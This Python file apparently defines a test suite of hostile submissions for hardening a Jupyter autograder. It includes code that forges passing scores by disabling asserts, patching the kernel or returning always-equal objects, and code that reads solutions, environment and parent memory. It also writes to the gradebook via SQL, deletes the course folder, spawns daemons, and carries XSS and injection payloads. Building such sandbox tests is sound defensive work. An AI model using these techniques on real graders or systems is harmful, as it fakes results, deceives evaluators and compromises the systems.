"""Attacks on a grader, each a submission to the small assignment that arena.py makes.

Every one is bounded by itself (a few processes, some hundred megabytes, loopback and the addresses
set aside for documentation), so that it can be shown against stock nbgrader too. `{…}` in a code
attack is filled in by the arena: course, home, host_port, marker.
"""

import base64
import dataclasses
import json
import os
from collections.abc import Callable
from pathlib import Path

Notebook = dict
NO_ANSWER = "def double(x):\n    return None"


@dataclasses.dataclass(frozen=True)
class Attack:
    """One attack: code in the first answer, or a change of the notebook, or of the folder."""

    name: str
    kind: str
    code: str = ""
    notebook: Callable[[Notebook], None] | None = None
    folder: Callable[[Path], None] | None = None
    tags: frozenset[str] = frozenset()  # "stock hangs": not to be shown against stock


ALL: list[Attack] = []


def code(name: str, kind: str, source: str, *tags: str) -> None:
    plain = source.replace("{{", "{").replace("}}", "}")
    ALL.append(Attack(name, kind, code=plain, tags=frozenset(tags)))


def in_notebook(name: str, kind: str, *tags: str) -> Callable:
    def add(change: Callable[[Notebook], None]) -> Callable[[Notebook], None]:
        ALL.append(Attack(name, kind, notebook=change, tags=frozenset(tags)))
        return change

    return add


def in_folder(name: str, kind: str, *tags: str) -> Callable:
    def add(change: Callable[[Path], None]) -> Callable[[Path], None]:
        ALL.append(Attack(name, kind, folder=change, tags=frozenset(tags)))
        return change

    return add


def cell(notebook: Notebook, grade_id: str) -> dict:
    return next(
        c
        for c in notebook["cells"]
        if c["metadata"].get("nbgrader", {}).get("grade_id") == grade_id
    )


# --- forged scores, from inside the kernel ------------------------------------------------------

code(
    "ast-drops-asserts",
    "forgery",
    NO_ANSWER
    + """
import ast
class Drop(ast.NodeTransformer):
    def visit_Assert(self, node):
        return ast.Pass()
get_ipython().ast_transformers.append(Drop())
""",
)
code(
    "ast-empties-cells",
    "forgery",
    NO_ANSWER
    + """
import ast
class Empty(ast.NodeTransformer):
    def visit_Module(self, node):
        return ast.Module([], [])
get_ipython().ast_transformers.append(Empty())
""",
)
code(
    "input-strips-asserts",
    "forgery",
    NO_ANSWER
    + """
def strip(lines):
    return ["pass\\n" if line.lstrip().startswith("assert") else line for line in lines]
get_ipython().input_transformers_post.append(strip)
""",
)
code(
    "input-empties-cells",
    "forgery",
    NO_ANSWER
    + """
get_ipython().input_transformers_cleanup.append(lambda lines: ["pass\\n"])
""",
)
code(
    "equals-everything",
    "forgery",
    """
class Yes:
    __eq__ = __lt__ = __gt__ = __le__ = __ge__ = lambda self, other: True
    __ne__ = lambda self, other: False
    __hash__ = object.__hash__
    __sub__ = __rsub__ = __abs__ = lambda self, *other: self
def double(x):
    return Yes()
triple = half = double
""",
)
code(
    "equals-everything-int",
    "forgery",
    """
class Yes(int):
    __eq__ = lambda self, other: True
    __hash__ = int.__hash__
def double(x):
    return Yes(0)
triple = half = double
""",
)
code(
    "do-execute-skips",
    "forgery",
    NO_ANSWER
    + """
kernel = get_ipython().kernel
async def skip(*args, **kwargs):
    return {"status": "ok", "execution_count": 1, "user_expressions": {}, "payload": []}
kernel.do_execute = skip
""",
)
code(
    "execute-request-skips",
    "forgery",
    NO_ANSWER
    + """
kernel = get_ipython().kernel
async def skip(stream, ident, parent):
    kernel.session.send(stream, "execute_reply", {"status": "ok", "execution_count": 1,
        "user_expressions": {}, "payload": []}, parent, ident=ident)
kernel.shell_handlers["execute_request"] = skip
""",
)
code(
    "run-cell-swallows",
    "forgery",
    NO_ANSWER
    + """
shell = get_ipython()
run, shown = shell.run_cell_async, shell.showtraceback
shell.showtraceback = shell._showtraceback = lambda *a, **k: None
async def swallow(*args, **kwargs):
    result = await run(*args, **kwargs)
    result.error_in_exec = result.error_before_exec = None
    return result
shell.run_cell_async = swallow
""",
)
code(
    "run-code-swallows",
    "forgery",
    NO_ANSWER
    + """
shell = get_ipython()
async def nothing(*args, **kwargs):
    return False
shell.run_code = nothing
""",
)
code(
    "expected-from-source",
    "forgery",
    """
import re
def double(x):
    found = re.search(r"double\\(%s\\)\\s*==\\s*(\\d+)" % x, get_ipython().user_ns["In"][-1])
    return int(found.group(1)) if found else None
""",
)
code(
    "expected-from-frame",
    "forgery",
    """
import sys
def double(x):
    constants = [c for c in sys._getframe(1).f_code.co_consts if isinstance(c, int)]
    return constants[constants.index(x) + 1]
""",
)
code(
    "partial-by-displayhook",
    "forgery",
    NO_ANSWER
    + """
def triple(x):
    get_ipython().displayhook(2)
    raise SystemExit
""",
)
code(
    "partial-by-message",
    "forgery",
    NO_ANSWER
    + """
def triple(x):
    kernel = get_ipython().kernel
    forged = dict(execution_count=1, metadata=dict(), data=dict([("text/plain", "2")]))
    kernel.session.send(kernel.iopub_socket, "execute_result", forged, kernel.get_parent("shell"),
        ident=kernel._topic("execute_result"))
    raise ValueError
""",
)
code(
    "partial-by-formatter",
    "forgery",
    NO_ANSWER
    + """
get_ipython().display_formatter.formatters["text/plain"].for_type(int, lambda o, p, c: p.text("2"))
triple = double
""",
)
code(
    "result-before-error",
    "forgery",
    """
def double(x):
    get_ipython().displayhook(3)
""",
)
code(
    "patched-helper",
    "forgery",
    NO_ANSWER
    + """
def half(x):
    return None
import threading, time
def patch():
    while True:
        get_ipython().user_ns["assert_close"] = lambda *a: None
        time.sleep(0.001)
threading.Thread(target=patch, daemon=True).start()
""",
)
code(
    "patched-builtin",
    "forgery",
    NO_ANSWER
    + """
import builtins
builtins.abs = lambda x: 0
def half(x):
    class Any(float):
        __sub__ = lambda self, other: 0
    return Any()
""",
)
code(
    "quiet-traceback",
    "forgery",
    NO_ANSWER
    + """
get_ipython().showtraceback = lambda *a, **k: None
""",
)
code(
    "custom-exception-handler",
    "forgery",
    NO_ANSWER
    + """
get_ipython().set_custom_exc((Exception,), lambda *a, **k: None)
""",
)
code(
    "clears-the-error",
    "forgery",
    NO_ANSWER
    + """
import threading, time
from IPython.display import clear_output
def clear():
    while True:
        clear_output(); time.sleep(0.001)
threading.Thread(target=clear, daemon=True).start()
""",
)
code("check-that-does-nothing", "forgery", NO_ANSWER + "\ndef judge(*args):\n    pass")
code(
    "check-that-compares-nothing",
    "forgery",
    NO_ANSWER
    + """
def quarter(x):
    return None
def same(came, expected):
    return True
""",
)
code(
    "check-gets-a-liar",
    "forgery",
    NO_ANSWER
    + """
def quarter(x):
    class Yes:
        __eq__ = lambda self, other: True
    return Yes()
""",
)
code("exits-in-the-test", "forgery", "import os\ndef double(x):\n    os._exit(0)")
code("system-exit-in-the-test", "forgery", "def double(x):\n    raise SystemExit(0)")
code(
    "session-says-ok",
    "forgery",
    NO_ANSWER
    + """
session = get_ipython().kernel.session
send = session.send
def lie(stream, message, content=None, *args, **kwargs):
    kind = message if isinstance(message, str) else message["msg_type"]
    if kind == "error":
        return {}
    if kind == "execute_reply":
        content = {"status": "ok", "execution_count": 1, "user_expressions": {}, "payload": []}
    return send(stream, message, content, *args, **kwargs)
session.send = lie
""",
)

# --- forged scores and worse, through the socket between a kernel and its grader -----------------

CHANNEL = """
import json, os, socket, struct, threading, time

def found(number):
    try:
        end = socket.socket(fileno=os.dup(number))
    except OSError:
        return None
    return end if end.type == socket.SOCK_SEQPACKET else None

ends = [end for end in map(found, range(3, 100)) if end]

def say(text, begins=True):
    for end in ends:
        end.send(struct.pack("=I?", os.getpid(), begins) + text)

def message(kind, content, parent=None):
    say(json.dumps(dict(type=kind, content=content, parent=parent)).encode())

def now():
    return get_ipython().kernel.get_parent("shell")["header"]["msg_id"]
"""
code(
    "channel-answers-first",
    "forgery",
    CHANNEL
    + NO_ANSWER
    + """
def answer():
    answered = now()
    while True:
        if now() != answered:
            answered = now()
            message("execute_reply", dict(status="ok", execution_count=1), answered)
        time.sleep(0)

threading.Thread(target=answer, daemon=True).start()
""",
)
code(
    "channel-answers-for-all",
    "forgery",
    CHANNEL
    + NO_ANSWER
    + """
for parent in (None, "", now(), *map(str, range(99))):
    message("execute_reply", dict(status="ok", execution_count=1), parent)
    message("execute_result", dict(data=dict([("text/plain", "2")]), metadata=dict()), parent)
""",
)
code("channel-no-head", "malformed", CHANNEL + NO_ANSWER + "\nfor end in ends: end.send(b'x')")
code("channel-no-json", "malformed", CHANNEL + NO_ANSWER + "\nsay(b'no JSON')")
code("channel-no-object", "malformed", CHANNEL + NO_ANSWER + "\nsay(b'[1]')")
code("channel-nan", "malformed", CHANNEL + NO_ANSWER + "\nmessage('stream', dict(text=1e999))")
code("channel-deep", "malformed", CHANNEL + NO_ANSWER + "\nsay(b'[' * 60_000)")
code(
    "channel-odd-contents",
    "malformed",
    CHANNEL
    + NO_ANSWER
    + """
message("stream", dict(name="stdout", text=["x"]), now())
message("display_data", dict(data=[], metadata=None, transient=7), now())
""",
)
code(
    "channel-odd-answer",
    "malformed",
    CHANNEL + NO_ANSWER + "\nmessage('execute_reply', dict(), now())",
)
code(
    "channel-odd-error",
    "malformed",
    CHANNEL
    + NO_ANSWER
    + """
message("execute_reply", dict(status="error", ename=[], evalue=1, traceback="no list"), now())
""",
)
code(
    "channel-odd-count",
    "malformed",
    CHANNEL
    + NO_ANSWER
    + """
message("display_data", dict(execution_count=dict(a=[]), data=dict(), metadata=dict()), now())
""",
)
code(
    "channel-unknown-kind",
    "malformed",
    CHANNEL + NO_ANSWER + "\nmessage('unheard_of', dict(), now())",
)
code(
    "channel-half-a-character",
    "malformed",
    CHANNEL
    + NO_ANSWER
    + """
message("stream", dict(name="stdout", text="\\ud800"), now())
""",
)
code(
    "channel-without-end",
    "flood",
    CHANNEL
    + NO_ANSWER
    + """
for number in range(2000):
    say(b"x" * (1 << 16), begins=not number)
""",
)
code(
    "channel-chatter",
    "flood",
    CHANNEL
    + NO_ANSWER
    + """
def chatter():
    for _ in range(50_000):
        message("stream", dict(name="stdout", text="x"))

threading.Thread(target=chatter, daemon=True).start()
""",
)
code(
    "channel-files-elsewhere",
    "write",
    CHANNEL
    + NO_ANSWER
    + """
names = ["{course}/gradebook.db", "{home}/profile", "{course}/nbgrader_config.py"]
names += ["../" * n + name for n in range(9) for name in ("gradebook.db", "nbgrader_config.py")]
message("traces_reply", dict(files=dict.fromkeys(names, "Zm9yZ2Vk"), changed=[]))
""",
)
code(
    "channel-takes-requests",
    "time",
    CHANNEL
    + NO_ANSWER
    + """
def take():
    while True:
        ends[0].recv(1 << 17)

for _ in range(4 if ends else 0):
    threading.Thread(target=take, daemon=True).start()
""",
)

# --- forged scores, from the notebook file ------------------------------------------------------


@in_notebook("points-raised", "forgery")
def _(nb):
    cell(nb, "double-test")["metadata"]["nbgrader"]["points"] = 100


@in_notebook("manual-made-automatic", "forgery")
def _(nb):
    cell(nb, "design")["metadata"]["nbgrader"]["solution"] = False
    cell(nb, "design")["metadata"]["nbgrader"]["locked"] = True


@in_notebook("test-emptied", "forgery")
def _(nb):
    cell(nb, "double-test")["source"] = "pass"


@in_notebook("test-unlocked-and-emptied", "forgery")
def _(nb):
    test = cell(nb, "double-test")
    test["source"] = "pass"
    test["metadata"]["nbgrader"] |= {"solution": True, "locked": False}


@in_notebook("test-skipped-by-tag", "forgery")
def _(nb):
    cell(nb, "double-test")["metadata"]["tags"] = ["skip-execution"]


@in_notebook("test-turned-markdown", "forgery")
def _(nb):
    test = cell(nb, "double-test")
    test["cell_type"] = "markdown"
    del test["outputs"], test["execution_count"]


@in_notebook("test-copied-empty", "forgery")
def _(nb):
    copy = json.loads(json.dumps(cell(nb, "double-test"))) | {"source": "pass", "id": "copy"}
    nb["cells"].append(copy)


@in_notebook("test-moved-before-answer", "forgery")
def _(nb):
    nb["cells"].insert(0, nb["cells"].pop(nb["cells"].index(cell(nb, "double-test"))))


@in_notebook("own-test-invented", "forgery")
def _(nb):
    known = cell(nb, "double-test")
    copy = json.loads(json.dumps(known)) | {"source": "pass", "id": "own"}
    copy["metadata"]["nbgrader"] |= {"grade_id": "bonus", "points": 50}
    nb["cells"].append(copy)


@in_notebook("outputs-prepared", "forgery")
def _(nb):
    cell(nb, "triple-test")["outputs"] = [
        {
            "output_type": "execute_result",
            "execution_count": 1,
            "metadata": {},
            "data": {"text/plain": "2"},
        }
    ]


@in_notebook("kernel-exchanged", "forgery", "stock fails")
def _(nb):
    nb["metadata"]["kernelspec"] = {"name": "evil", "display_name": "evil", "language": "evil"}


@in_folder("shadowed-module", "forgery")
def _(folder):
    (folder / "statistics.py").write_text("def mean(values):\n    return 1.5\n")


# --- reads --------------------------------------------------------------------------------------

_SHOW = "\ntry:\n    print({})\nexcept Exception as error:\n    print(type(error).__name__)"
code(
    "reads-solutions",
    "read",
    NO_ANSWER + _SHOW.format("open('{course}/source/vault/vault.ipynb').read()"),
)
code(
    "reads-solutions-relative",
    "read",
    NO_ANSWER + _SHOW.format("open('../../../source/vault/vault.ipynb').read()"),
)
code(
    "reads-gradebook",
    "read",
    NO_ANSWER + _SHOW.format("open('{course}/gradebook.db', 'rb').read()"),
)
code("reads-config", "read", NO_ANSWER + _SHOW.format("open('{course}/nbgrader_config.py').read()"))
code(
    "reads-other-submission",
    "read",
    NO_ANSWER + _SHOW.format("open('{course}/submitted/honest/vault/vault.ipynb').read()"),
)
code("reads-environment", "read", NO_ANSWER + _SHOW.format("dict(__import__('os').environ)"))
code("reads-home", "read", NO_ANSWER + _SHOW.format("open('{home}/token').read()"))
code(
    "reads-parents-environment",
    "read",
    NO_ANSWER
    + """
import glob
for path in glob.glob("/proc/[0-9]*/environ"):
    try:
        text = open(path).read()
    except OSError:
        continue
    if "GRADING_ARENA" in text:
        print(text)
""",
)
code(
    "reads-parents-memory",
    "read",
    NO_ANSWER
    + """
import os
try:
    pid = os.getppid()
    for line in open(f"/proc/{{pid}}/maps"):
        if "[heap]" in line:
            start, end = (int(part, 16) for part in line.split()[0].split("-"))
            with open(f"/proc/{{pid}}/mem", "rb") as memory:
                memory.seek(start)
                print("memory", memory.read(10), "LEAK-memory")
except Exception as error:
    print(type(error).__name__)
""",
)
code(
    "lists-processes",
    "read",
    NO_ANSWER
    + """
import glob
for path in glob.glob("/proc/[0-9]*/cmdline"):
    try:
        print(open(path).read().replace("\\0", " "))
    except OSError:
        pass
""",
)
code(
    "reads-open-files",
    "read",
    NO_ANSWER
    + """
import os
for number in range(3, 100):
    try:
        name = os.readlink(f"/proc/self/fd/{{number}}")
    except OSError:
        continue
    if name.startswith("/") and "gradebook" in name:
        print(open(name, "rb").read())
""",
)


@in_folder("link-to-solutions", "read")
def _(folder):
    (folder / "notes.txt").symlink_to("../../../source/vault/vault.ipynb")


@in_folder("link-as-notebook", "read")
def _(folder):
    (folder / "vault.ipynb").unlink()
    (folder / "vault.ipynb").symlink_to("../../../source/vault/vault.ipynb")


@in_folder("link-to-folder", "read")
def _(folder):
    (folder / "data").symlink_to("../../../source")


@in_folder("hard-link", "read")
def _(folder):
    os.link(folder.parents[2] / "source/vault/vault.ipynb", folder / "notes.txt")


# --- writes -------------------------------------------------------------------------------------

_TRY = "\ntry:\n    {}\nexcept Exception as error:\n    print(type(error).__name__)"
code(
    "writes-gradebook",
    "write",
    NO_ANSWER
    + """
import sqlite3
try:
    with sqlite3.connect("{course}/gradebook.db", timeout=1) as db:
        db.execute("update grade set manual_score = 99")
except Exception as error:
    print(type(error).__name__)
""",
)
code(
    "writes-config",
    "write",
    NO_ANSWER + _TRY.format("open('{course}/nbgrader_config.py', 'a').write('# {marker}')"),
)
code(
    "writes-other-submission",
    "write",
    NO_ANSWER
    + _TRY.format("open('{course}/submitted/honest/vault/vault.ipynb', 'a').write('{marker}')"),
)
code(
    "writes-source",
    "write",
    NO_ANSWER + _TRY.format("open('{course}/source/vault/extra.py', 'w').write('{marker}')"),
)
code(
    "writes-home", "write", NO_ANSWER + _TRY.format("open('{home}/profile', 'a').write('{marker}')")
)
code(
    "writes-python",
    "write",
    NO_ANSWER + _TRY.format("open(__import__('sys').prefix + '/{marker}', 'w').write('x')"),
)
code("writes-tmp", "write", NO_ANSWER + _TRY.format("open('/tmp/{marker}', 'w').write('x')"))
code(
    "deletes-course",
    "write",
    NO_ANSWER + _TRY.format("__import__('shutil').rmtree('{course}/source')"),
    "stock loses its course",
)
code(
    "mounts",
    "write",
    NO_ANSWER
    + _TRY.format(
        "__import__('subprocess').run(['mount', '-t', 'tmpfs', 'none', '{home}'], check=True)"
    ),
    "stock not shown",
)
code(
    "new-user-namespace",
    "write",
    NO_ANSWER
    + """
import subprocess
print(subprocess.run("unshare -Ur id", shell=True, capture_output=True, text=True))
""",
)

# --- escapes in time ----------------------------------------------------------------------------

code(
    "background-process",
    "time",
    NO_ANSWER
    + """
import subprocess
subprocess.Popen(["sleep", "20"], start_new_session=True)
subprocess.Popen(["sh", "-c", "sleep 20; : {marker}"], start_new_session=True)
""",
)
code(
    "daemon",
    "time",
    NO_ANSWER
    + """
import os, time
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        os.execvp("sh", ["sh", "-c", "sleep 20; : {marker}"])
    os._exit(0)
""",
)
code(
    "kills-parent", "time", "import os, signal\nos.kill(os.getppid(), signal.SIGKILL)\n" + NO_ANSWER
)
code("rewrites-own-file", "time", NO_ANSWER + _TRY.format("open('vault.ipynb', 'w').write('gone')"))
code("sleeps-forever", "time", "import time\ntime.sleep(1000)\n" + NO_ANSWER)
code("loops-forever", "time", "while True:\n    pass")
code(
    "swallows-interrupts",
    "time",
    """
while True:
    try:
        while True:
            pass
    except BaseException:
        pass
""",
    "stock fails",
)
code(
    "ignores-interrupts",
    "time",
    """
import signal
signal.signal(signal.SIGINT, signal.SIG_IGN)
while True:
    pass
""",
    "stock fails",
)
code("closes-sockets", "time", NO_ANSWER + "\nimport os\nos.closerange(3, 200)", "stock hangs")
code("segfault", "time", "import ctypes\nctypes.string_at(0)")

# --- floods -------------------------------------------------------------------------------------

code("prints-much", "flood", NO_ANSWER + "\nfor _ in range(40):\n    print('x' * 1_000_000)")
code("prints-many-lines", "flood", NO_ANSWER + "\nfor n in range(100_000):\n    print(n)")
code(
    "one-huge-message",
    "flood",
    NO_ANSWER
    + """
from IPython.display import display
display({{"text/plain": "x" * 80_000_000}}, raw=True)
""",
)
code(
    "memory",
    "flood",
    """
held = []
for _ in range(60):
    held.append(bytearray(10_000_000))
"""
    + NO_ANSWER,
)
code(
    "processes",
    "flood",
    """
import os, time
for _ in range(60):
    try:
        if os.fork() == 0:
            time.sleep(5)
            os._exit(0)
    except OSError:
        break
"""
    + NO_ANSWER,
)
code(
    "threads",
    "flood",
    """
import threading, time
try:
    for _ in range(500):
        threading.Thread(target=time.sleep, args=(5,), daemon=True).start()
except RuntimeError:
    pass
"""
    + NO_ANSWER,
)
code(
    "files",
    "flood",
    """
try:
    for number in range(3000):
        open(f"file-{{number}}", "w").close()
except OSError:
    pass
"""
    + NO_ANSWER,
)
code(
    "disk",
    "flood",
    """
try:
    with open("big", "wb") as file:
        for _ in range(80):
            file.write(bytes(1_000_000))
except OSError as error:
    print(type(error).__name__)
"""
    + NO_ANSWER,
)
code("recursion", "flood", "import sys\nsys.setrecursionlimit(10**6)\ndef f(): f()\nf()")

# --- network ------------------------------------------------------------------------------------

_CONNECT = """
import socket
try:
    with socket.create_connection(({}), timeout=1) as connection:
        connection.sendall(b"{{marker}}")
        print("LEAK-connected")
except OSError as error:
    print(type(error).__name__)
"""
code("connects-to-host", "network", NO_ANSWER + _CONNECT.format("'127.0.0.1', {host_port}"))
code("connects-outside", "network", NO_ANSWER + _CONNECT.format("'192.0.2.1', 80"))
code(
    "resolves-a-name",
    "network",
    NO_ANSWER
    + """
import socket
try:
    print(socket.getaddrinfo("host.example", 80))
except OSError as error:
    print(type(error).__name__)
""",
)
code(
    "abstract-socket",
    "network",
    NO_ANSWER
    + """
import socket
try:
    with socket.socket(socket.AF_UNIX) as connection:
        connection.connect("\\0{marker}")
        connection.sendall(b"{marker}")
        print("LEAK-connected")
except OSError as error:
    print(type(error).__name__)
""",
)

# --- malformed submissions ----------------------------------------------------------------------


def _write(content: bytes) -> Callable[[Path], None]:
    return lambda folder: (folder / "vault.ipynb").write_bytes(content) and None


for _name, _content in {
    "not-json": b"hello",
    "empty": b"",
    "deep-json": b'{"cells":' + b"[" * 200_000,
    "not-an-object": b"[1, 2]",
    "not-a-number": b'{"cells": [], "metadata": {"x": NaN}, "nbformat": 4, "nbformat_minor": 5}',
    "huge-number": b'{"cells": [], "metadata": {}, "nbformat": ' + b"9" * 10_000 + b"}",
    "no-cells": b'{"metadata": {}, "nbformat": 4, "nbformat_minor": 5}',
    "cells-no-list": b'{"cells": {"a": 1}, "metadata": {}, "nbformat": 4, "nbformat_minor": 5}',
    "cell-no-object": b'{"cells": [1], "metadata": {}, "nbformat": 4, "nbformat_minor": 5}',
    "source-no-text": b'{"cells": [{"cell_type": "code", "source": 5}], "nbformat": 4}',
    "broken-unicode": b'{"cells": [{"cell_type": "markdown", "source": "\\ud800"}], '
    b'"metadata": {}, "nbformat": 4, "nbformat_minor": 5}',
    "future-format": b'{"cells": [], "metadata": {}, "nbformat": 99, "nbformat_minor": 0}',
    "wrong-encoding": b"\xff\xfe{\x00}\x00",
}.items():
    ALL.append(Attack(f"notebook-{_name}", "malformed", folder=_write(_content)))


@in_notebook("bad-grade-id", "malformed")
def _(nb):
    cell(nb, "double")["metadata"]["nbgrader"]["grade_id"] = "../../double; drop table grade"


@in_notebook("nbgrader-metadata-a-list", "malformed")
def _(nb):
    cell(nb, "double")["metadata"]["nbgrader"] = [1]


@in_notebook("old-schema", "malformed")
def _(nb):
    cell(nb, "double")["metadata"]["nbgrader"]["schema_version"] = 0


@in_folder("pipe-for-notebook", "malformed", "stock hangs")
def _(folder):
    (folder / "vault.ipynb").unlink()
    os.mkfifo(folder / "vault.ipynb")


@in_folder("too-many-files", "malformed")
def _(folder):
    for number in range(1100):
        (folder / f"{number}.txt").write_text("")


@in_folder("own-timestamp", "forgery")
def _(folder):
    (folder / "timestamp.txt").write_text("2031-01-01 00:00:00 UTC")


# --- scripts in feedback ------------------------------------------------------------------------

SCRIPT = "<script>alert('{marker}')</script>"


@in_notebook("script-in-answer", "feedback")
def _(nb):
    cell(nb, "design")["source"] = (
        SCRIPT.format(marker="LEAK-script") + "<img src=x onerror=alert(1)>"
    )


@in_notebook("link-with-script", "feedback")
def _(nb):
    cell(nb, "design")["source"] = "[look](javascript:alert('LEAK-script'))"


@in_notebook("picture-with-script", "feedback")
def _(nb):
    answer = cell(nb, "design")
    answer["source"] = "![](attachment:a.svg)"
    data = base64.b64encode(b"<svg onload='alert(1)'/>").decode()
    answer["attachments"] = {"a.svg": {"image/svg+xml": data}}


code(
    "script-in-output",
    "feedback",
    NO_ANSWER
    + """
from IPython.display import HTML, Javascript, SVG, display
display(HTML("<script>alert('LEAK-script')</script>"))
display(Javascript("alert('LEAK-script')"))
display(SVG("<svg xmlns='http://www.w3.org/2000/svg' onload=\\"alert('LEAK-script')\\"/>"))
""",
)
code(
    "hidden-test-printed",
    "feedback",
    """
def double(x):
    print(get_ipython().user_ns["In"][-1])
""",
)
